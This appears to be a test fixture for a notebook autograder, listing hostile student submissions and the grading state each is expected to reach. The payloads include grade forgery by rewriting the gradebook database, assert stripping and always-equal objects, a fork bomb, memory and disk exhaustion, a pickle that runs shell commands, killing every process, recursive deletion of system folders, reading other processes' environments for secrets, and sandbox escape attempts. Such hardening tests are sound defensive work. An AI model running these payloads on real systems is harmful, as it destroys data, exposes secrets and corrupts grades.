"""Submissions that cheat, break, or harm: what each does, and what should become of it.

The assignment is small and its answers here are wrong: whoever earns a point has cheated. Attackers know all there is
to know of the grader's code, and guess where its files lie.
"""

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from coursepkg.grading.states import State
from tests import classroom

SLUG = "91_target"
SECRET_VALUE = "62674"


def target() -> NotebookNode:
    """The instructor's version: `double` is graded by coursepkg.check, `largest` by plain asserts."""
    cells = [
        classroom._locked("text_01", "# Target", "markdown"),
        classroom._locked("code_01", "from coursepkg import check, memory\nfrom coursepkg.check import case"),
        classroom._solution("double", classroom.DOUBLE),
        classroom._test(
            "double",
            2,
            "from coursepkg import check, memory\nfrom coursepkg.check import case\n\n"
            "check.function(double, [case(2, expected=4, label='two')], without=[memory])\n"
            "### BEGIN HIDDEN TESTS\n"
            "check.hidden(double, [case(31337, expected=62674), case(-3, expected=-6)], without=[memory])\n"
            "### END HIDDEN TESTS",
        ),
        classroom._solution("largest", classroom.LARGEST),
        classroom._test(
            "largest",
            3,
            "assert largest([1, 5, 3]) == 5\n"
            "### BEGIN HIDDEN TESTS\n"
            "assert largest([-77123, -88123]) == -77123\n"
            "assert isinstance(largest([2.5]), float)\n"
            "### END HIDDEN TESTS",
        ),
    ]
    for number, cell in enumerate(cells, start=1):
        cell.id = f"target-{number}"
    kernel = {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"}
    return nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": kernel})


WRONG = "def double(x):\n    return 0\n\n\ndef largest(values):\n    return 0\n"


@dataclass(frozen=True)
class Attack:
    """What a submission does, and its state after grading; several, where it depends on the machine which limit it
    meets first. `reason`: a part of why, where it is not graded.

    code: what stands in the answer of `double`, after wrong answers to both exercises; a list: one cell each.
    folder: what is done to the submitted folder, given that and the released notebook; instead of `code`.
    """

    name: str
    code: str = ""
    state: State | tuple[State, ...] = State.GRADED
    reason: str = ""
    notebook: Callable[[NotebookNode], None] | None = None
    folder: Callable[[Path, NotebookNode], None] | None = None


def _cell(name: str) -> Callable[[NotebookNode], NotebookNode]:
    return lambda nb: next(cell for cell in nb.cells if classroom.grade_id(cell) == name)


def _change(name: str, change: Callable[[NotebookNode], None]) -> Callable[[NotebookNode], None]:
    return lambda nb: change(_cell(name)(nb))


def _set_source(text: str) -> Callable[[NotebookNode], None]:
    return lambda cell: cell.update(source=text)


def _raw(text: str | bytes) -> Callable[[Path, NotebookNode], None]:
    def write(folder: Path, _: NotebookNode) -> None:
        content = text if isinstance(text, bytes) else text.encode()
        (folder / f"{SLUG}.ipynb").write_bytes(content)

    return write


def _beside(name: str, text: str) -> Callable[[Path, NotebookNode], None]:
    def write(folder: Path, released: NotebookNode) -> None:
        _wrong(released)
        nbformat.write(released, folder / f"{SLUG}.ipynb")
        (folder / name).write_text(text, encoding="utf-8")

    return write


def _wrong(released: NotebookNode) -> None:
    _cell("double")(released).source = WRONG
    _cell("largest")(released).source = ""


def _link_to(
    target: Callable[[Path], Path], name: str = f"{SLUG}.ipynb"
) -> Callable[[Path, NotebookNode], None]:
    def make(folder: Path, released: NotebookNode) -> None:
        if name != f"{SLUG}.ipynb":
            _wrong(released)
            nbformat.write(released, folder / f"{SLUG}.ipynb")
        (folder / name).symlink_to(target(folder.parents[2]))

    return make


def _folder_is_a_link(folder: Path, _: NotebookNode) -> None:
    folder.rmdir()
    folder.symlink_to(folder.parents[2] / "solutions" / SLUG)


def _pipe(folder: Path, _: NotebookNode) -> None:
    os.mkfifo(folder / f"{SLUG}.ipynb")


def _pipe_beside(folder: Path, released: NotebookNode) -> None:
    _wrong(released)
    nbformat.write(released, folder / f"{SLUG}.ipynb")
    os.mkfifo(folder / "data.csv")


def _duplicate_test(nb: NotebookNode) -> None:
    copy = nbformat.from_dict(_cell("test_double")(nb))
    copy.source, copy.id = "100", "copied"
    copy.metadata.nbgrader.points = 100
    nb.cells.append(copy)


def _claim_a_test(nb: NotebookNode) -> None:
    cell = nbformat.v4.new_code_cell(
        "5", metadata={"nbgrader": dict(_cell("test_largest")(nb).metadata.nbgrader)}
    )
    nb.cells = [one for one in nb.cells if classroom.grade_id(one) != "test_largest"] + [cell]


def _other_kernel(nb: NotebookNode) -> None:
    nb.metadata.kernelspec = {
        "name": "bash",
        "language": "sh",
        "display_name": "sh",
        "argv": ["/bin/sh", "-c", "true"],
    }


def _schema(nb: NotebookNode) -> None:
    for cell in nb.cells:
        cell.metadata.nbgrader["schema_version"] = 99


def _deep(_: Path = Path()) -> str:
    return "[" * 200_000 + "]" * 200_000


FIND_COURSE = """
import glob, os
roots = ['.', '..', '../..', '../../..', '/', '/tmp', '/root', '/home', COURSE]
def find(name):
    for root in roots:
        for found in glob.glob(root + '/**/' + name, recursive=True) if root not in ('/',) else glob.glob('/*/' + name):
            yield found
"""

#: Attacks on the verdict, from inside the student's process.
CHEATS = [
    Attack(
        "runs the instructor's solution",
        FIND_COURSE
        + "import json\nfor path in find('solutions/*/*.ipynb'):\n"
        + "    for cell in json.load(open(path))['cells']:\n        try:\n            exec(''.join(cell['source']))\n"
        + "        except Exception:\n            pass\n",
    ),
    Attack(
        "writes itself points into the gradebook",
        FIND_COURSE
        + "import sqlite3\nfor path in find('gradebook.db'):\n    base = sqlite3.connect(path)\n"
        + "    base.execute('UPDATE grade SET auto_score = 999, manual_score = 999')\n    base.commit()\n",
    ),
    Attack(
        "replaces the cells that run after its own",
        "get_ipython().input_transformers_post.append(lambda lines: ['5\\n'])",
    ),
    Attack(
        "strips asserts from what is run",
        "import ast\nclass Strip(ast.NodeTransformer):\n    def visit_Assert(self, node):\n        return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Strip())",
    ),
    Attack(
        "returns what equals everything",
        "class Any:\n    def __eq__(self, other):\n        return True\n    def __ne__(self, other):\n        return False\n"
        "    def __hash__(self):\n        return 0\n    __class__ = float\n"
        "double = largest = lambda *a: Any()",
    ),
    Attack(
        "returns an int that equals everything",
        "class Any(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n"
        "double = largest = lambda *a: Any(7)",
    ),
    Attack(
        "returns a float that compares as it likes",
        "class Any(float):\n    def __eq__(self, other):\n        return True\n    def __sub__(self, other):\n        return 0.0\n"
        "    __rsub__ = __sub__\n    __abs__ = lambda self: 0.0\n    __hash__ = float.__hash__\n"
        "double = largest = lambda *a: Any(7)",
    ),
    Attack(
        "shadows builtins",
        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda x: 0\n"
        "builtins.AssertionError = type('Quiet', (Exception,), {})\nisinstance = lambda *a: True\nAssertionError = Exception",
        State.FAILED,
        "the process died",
    ),
    Attack(
        "replaces the checks",
        "import coursepkg.check as c, coursepkg.check.functions as f, coursepkg.check.compare as d\n"
        "for module in (c, f):\n    module.function = module.hidden = lambda *a, **k: None\n"
        "f.difference = d.difference = lambda *a, **k: None\nf._run = lambda *a, **k: None\n"
        "check = type('check', (), {'function': print, 'hidden': print})",
    ),
    Attack(
        "looks for expected values in frames and on the heap",
        "import gc, inspect, sys\ndef double(x):\n    for frame in inspect.stack():\n"
        "        for value in list(frame.frame.f_locals.values()) + list(frame.frame.f_globals.values()):\n"
        "            for case in value if isinstance(value, (list, tuple)) else [value]:\n"
        "                if hasattr(case, 'expected') and getattr(case, 'args', None) == (x,):\n                    return case.expected\n"
        "    for thing in gc.get_objects():\n        if type(thing).__name__ == 'Case' and thing.args == (x,):\n            return thing.expected\n"
        "    return 0\n"
        "def largest(values):\n    text = [t for t in gc.get_objects() if isinstance(t, str) and 'assert largest' in t]\n"
        "    return eval(text[0].split('==')[-1]) if text else 0",
    ),
    Attack(
        "prints the points it would like",
        "import sys\ndef double(x):\n    print('5')\n    sys.displayhook(5)\n    get_ipython().display_formatter = None\n    return 5\n"
        "sys.displayhook = lambda value: print(5)\n5",
    ),
    Attack(
        "writes answers into its own channel",
        "import json, os, struct\nrest = json.dumps({'id': 5, 'value': 4, 'called': []}).encode()\n"
        "def forge():\n    for fd in range(3, 64):\n        try:\n            os.write(fd, struct.pack('>QI', len(rest), 0) + rest)\n"
        "        except OSError:\n            pass\nforge()",
        State.REFUSED,
        "sent what no notebook sends",
    ),
    Attack(
        "announces a message without end",
        "import os, struct\ndef double(x):\n    for fd in range(3, 64):\n        try:\n"
        "            os.write(fd, struct.pack('>QI', 2**60, 2**31))\n        except OSError:\n            pass\n    return 0",
        State.REFUSED,
        "a message that is too large",
    ),
    Attack(
        "returns an object whose pickle runs commands",
        "import os\nclass Bomb:\n    def __reduce__(self):\n        return os.system, ('touch /tmp/coursepkg-was-here',)\n"
        "double = largest = lambda *a: Bomb()",
    ),
    Attack(
        "returns lists that hold themselves",
        "def double(x):\n    loop = []\n    loop.append(loop)\n    return loop\nlargest = double",
    ),
    Attack(
        "claims to be the checks' own answer",
        "class Answer:\n    __name__ = 'double'\n    coursepkg_answer = lambda self: self\n    refuse_the_packages_own = lambda *a: None\n"
        "    refuse_changed_checks = lambda *a: None\n    def call(self, *a):\n        return None\n    def __call__(self, *a):\n        return 0\n"
        "double = largest = Answer()",
    ),
    Attack(
        "switches off what watches its calls, and calls the package",
        "import sys\nfrom coursepkg import memory\ndef double(x):\n    sys.setprofile(None)\n"
        "    memory.weight_bytes('llama-2-7b')\n    return 2 * x",
    ),
    Attack(
        "replaces what watches its calls, and calls the package",
        "import contextlib\nfrom coursepkg import memory\nimport coursepkg.check.ownwork as own\n"
        "own.watching = lambda *a: contextlib.nullcontext([])\n"
        "def double(x):\n    return 2 * x if memory.weight_bytes('llama-2-7b') > 10**9 else 0",
    ),
    Attack(
        "keeps copies of the package's functions under other names",
        "import types\nimport coursepkg.check.ownwork as own\nimport contextlib, coursepkg.memory.storage as s\n"
        "own.watching = lambda *a: contextlib.nullcontext([])\nreal = s.StorageFormat('a', 16).stored_bytes\n"
        "def double(x):\n    return (-1 if x < 0 else 1) * real(abs(x))",
    ),
    Attack(
        "runs the package's files anew",
        "import importlib.util as u, sys\nfrom coursepkg import memory\nfolder = memory.__path__[0]\n"
        "spec = u.spec_from_file_location('other', folder + '/__init__.py', submodule_search_locations=[folder])\n"
        "other = sys.modules['other'] = u.module_from_spec(spec)\ntext = open(folder + '/storage.py').read()\n"
        "space = {'__name__': 'coursepkg.memory.another', '__builtins__': __builtins__}\nsys.modules['coursepkg.memory.another'] = other\n"
        "exec(text, space)\nreal = space['StorageFormat']('a', 16).stored_bytes\n"
        "def double(x):\n    return (-1 if x < 0 else 1) * real(abs(x))",
    ),
    Attack(
        "asks the package in advance",
        "from coursepkg import memory\nrate = memory.weight_bytes('llama-2-7b') // 6_738_415_616\n"
        "def double(x):\n    return rate * x",
    ),
    Attack(
        "reaches sys by names that it puts together",
        "import operator, warnings\nfrom coursepkg import memory\nsystem = operator.attrgetter('s' + 'ys')(warnings)\n"
        "def double(x):\n    before = operator.methodcaller('get' + 'profile')(system)\n"
        "    operator.methodcaller('set' + 'profile', None)(system)\n    size = memory.weight_bytes('llama-2-7b')\n"
        "    operator.methodcaller('set' + 'profile', before)(system)\n    return 2 * x if size > 10**9 else 0",
    ),
    Attack(
        "has a helper that is the package's own function",
        "import inspect\nfrom coursepkg.memory import storage\n"
        "def double(x):\n    return helper(x)\nhelper = storage.StorageFormat('a', 16).stored_bytes",
    ),
    Attack(
        "leaves a hook that runs at every call",
        "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)",
    ),
    Attack(
        "ends Python in a call",
        "import sys\ndef double(x):\n    sys.exit(0)\ndef largest(v):\n    raise SystemExit",
    ),
]

#: Attacks on the notebook as a file.
TAMPERED = [
    Attack("changes a test into its points", notebook=_change("test_double", _set_source("2"))),
    Attack(
        "empties the tests",
        notebook=lambda nb: [_change(n, _set_source(""))(nb) for n in ("test_double", "test_largest")],
    ),
    Attack(
        "deletes the tests",
        notebook=lambda nb: nb.update(cells=[c for c in nb.cells if "test" not in classroom.grade_id(c)]),
    ),
    Attack("copies a test and gives it 100 points", notebook=_duplicate_test),
    Attack("claims a test's id for its own cell", notebook=_claim_a_test),
    Attack("asks for another kernel", notebook=_other_kernel),
    Attack("has metadata of another version", notebook=_schema),
    Attack(
        "has more points in its metadata",
        notebook=_change("test_double", lambda cell: cell.metadata.nbgrader.update(points=2997)),
    ),
    Attack(
        "turns the tests into Markdown",
        notebook=_change(
            "test_double",
            lambda cell: [
                cell.update(cell_type="markdown"),
                cell.pop("outputs", None),
                cell.pop("execution_count", None),
            ],
        ),
    ),
    Attack("brings a numpy of its own", folder=_beside("numpy.py", "def array(*a):\n    raise SystemExit")),
    Attack(
        "brings a sitecustomize and a coursepkg of its own",
        folder=_beside("sitecustomize.py", "import os\nos._exit(0)"),
    ),
    Attack("brings a .pth file", folder=_beside("evil.pth", "import os; os._exit(0)")),
]

#: What takes more than it may.
GREEDY = [
    Attack("loops", "while True:\n    pass"),
    Attack(
        "loops and ignores being interrupted",
        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass",
        State.TIMEOUT,
        "could not be interrupted",
    ),
    Attack(
        "loops in a call",
        "def double(x):\n    while True:\n        try:\n            while True:\n                pass\n        except BaseException:\n            pass",
        State.TIMEOUT,
        "could not be interrupted",
    ),
    Attack(
        "loops in a call, as students do",
        "def double(x):\n    while x:\n        try:\n            x = x / 1\n        except:\n            x = 0",
    ),
    Attack("prints without end", "while True:\n    print('x' * 10_000)"),
    Attack("takes all memory", "hold = []\nwhile True:\n    hold.append(bytearray(50_000_000))"),
    Attack(
        "takes all memory in many processes",
        "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n        hold = bytearray(b'x' * 150_000_000)\n        time.sleep(60)\ntime.sleep(30)",
        State.MEMORY,
        "more memory than a submission may",
    ),
    Attack(
        "is a fork bomb",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        (State.GRADED, State.TIMEOUT),
    ),
    Attack(
        "starts a thousand threads",
        "import threading, time\nfor _ in range(1000):\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
    ),
    Attack(
        "fills the disk", "with open('big', 'wb') as file:\n    while True:\n        file.write(bytes(10**7))"
    ),
    Attack("makes a million files", "for number in range(10**6):\n    open(f'file{number}', 'w').close()"),
    Attack("crashes", "import ctypes\nctypes.string_at(0)", State.FAILED, "SIGSEGV"),
    Attack("ends its process", "import os\nos._exit(0)", State.FAILED, "the process died"),
    Attack(
        "recurses without end",
        "def double(x):\n    return double(x)\nimport sys\nsys.setrecursionlimit(10**9)",
        (State.GRADED, State.MEMORY, State.TIMEOUT),
    ),
]

#: What reaches out.
HARMFUL = [
    Attack(
        "kills its parent",
        "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, signal.SIGKILL)",
    ),
    Attack("kills all it can", "import os, signal\nos.kill(-1, signal.SIGKILL)", State.GRADED),
    Attack(
        "leaves a process behind",
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True:\n            time.sleep(0.1)\n    os._exit(0)",
    ),
    Attack(
        "changes another's submission",
        FIND_COURSE + "for path in find('submitted/*/*/*.ipynb'):\n    open(path, 'w').write('')\n",
    ),
    Attack(
        "deletes what it can",
        "import os, shutil\nfor place in ('/tmp', '/home', '/root', COURSE, '/usr/lib/python3'):\n    shutil.rmtree(place, ignore_errors=True)",
    ),
    Attack(
        "changes Python's libraries",
        "import numpy, os\nfor name in ('__init__.py', 'evil.pth'):\n    with open(os.path.join(os.path.dirname(numpy.__file__), name), 'a') as file:\n        file.write('raise SystemExit')",
    ),
    Attack(
        "calls home",
        "import socket\nfor port in (PORT,):\n    socket.create_connection(('127.0.0.1', port), 1).send(b'hidden tests')",
    ),
    Attack(
        "calls home by an abstract socket",
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0coursepkg-hostile')\ns.send(b'hidden tests')",
    ),
    Attack(
        "reads others' environment",
        "import glob, os\nfor path in glob.glob('/proc/*/environ'):\n    try:\n        text = open(path, 'rb').read().decode()\n    except OSError:\n        continue\n    if 'COURSEPKG_SECRET' in text:\n        double = lambda x: 2 * x\n        largest = max\nif 'COURSEPKG_SECRET' in os.environ:\n    double = lambda x: 2 * x",
    ),
    Attack(
        "breaks out by namespaces and mounts",
        "import ctypes\nlibc = ctypes.CDLL(None)\nfor flags in (0x10000000, 0x20000, 0x10020000):\n    if libc.unshare(flags) == 0:\n        double = lambda x: 2 * x\nif libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0 or libc.chroot(b'.') == 0:\n    double = lambda x: 2 * x",
    ),
    Attack(
        "traces its parent",
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor pid in {os.getppid(), 1}:\n    if libc.ptrace(16, pid, 0, 0) == 0:\n        double = lambda x: 2 * x",
    ),
    Attack(
        "links its folder to the gradebook",
        "import os\nfor name in ('copy.db', 'feedback.html'):\n    os.symlink(COURSE + '/gradebook.db', name)\nos.symlink('/etc/passwd', 'passwd.txt')",
    ),
]

#: What is no submission.
BROKEN = [
    Attack(
        "is a link to the solution",
        folder=_link_to(lambda root: root / "solutions" / SLUG / f"{SLUG}.ipynb"),
        state=State.REFUSED,
        reason="symbolic link",
    ),
    Attack(
        "is a folder that is a link", folder=_folder_is_a_link, state=State.REFUSED, reason="symbolic link"
    ),
    Attack(
        "has a link to a system file beside it", folder=_link_to(lambda _: Path("/etc/passwd"), "passwd.txt")
    ),
    Attack("is a pipe that nobody writes to", folder=_pipe, state=State.REFUSED, reason="pipe"),
    Attack("has a pipe beside it", folder=_pipe_beside),
    Attack("is empty", folder=_raw(""), state=State.REFUSED, reason="is empty"),
    Attack("is no JSON", folder=_raw("{'cells': "), state=State.REFUSED, reason="not JSON"),
    Attack("is no text", folder=_raw(bytes(range(256)) * 10), state=State.REFUSED, reason="not UTF-8"),
    Attack("is nested without end", folder=_raw(_deep()), state=State.REFUSED, reason="not a notebook"),
    Attack(
        "is far too large",
        folder=_raw(
            json.dumps(
                {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [], "x": "x" * 21_000_000}
            )
        ),
        state=State.REFUSED,
        reason="more than 20 MB",
    ),
    Attack(
        "is of a format to come",
        folder=_raw(json.dumps({"nbformat": 5, "nbformat_minor": 0, "metadata": {}, "cells": []})),
        state=State.REFUSED,
        reason="",
    ),
    Attack(
        "has cells that are none",
        folder=_raw(json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": 7})),
        state=State.REFUSED,
        reason="",
    ),
    Attack(
        "is not there",
        folder=lambda folder, _: None,
        state=State.REFUSED,
        reason="there is no 91_target.ipynb",
    ),
]

ATTACKS = [*CHEATS, *TAMPERED, *GREEDY, *HARMFUL, *BROKEN]


def submit(root: Path, student: str, attack: Attack, released: NotebookNode, port: int) -> None:
    """Hand an attack in."""
    folder = root / "submitted" / student / SLUG
    folder.mkdir(parents=True)
    nb = nbformat.from_dict(released)
    if attack.folder:
        attack.folder(folder, nb)
        return
    _wrong(nb)
    if attack.code:
        code = attack.code.replace("COURSE", repr(str(root))).replace("PORT", str(port))
        _cell("double")(nb).source = WRONG + "\n" + code
    if attack.notebook:
        attack.notebook(nb)
    (folder / f"{SLUG}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
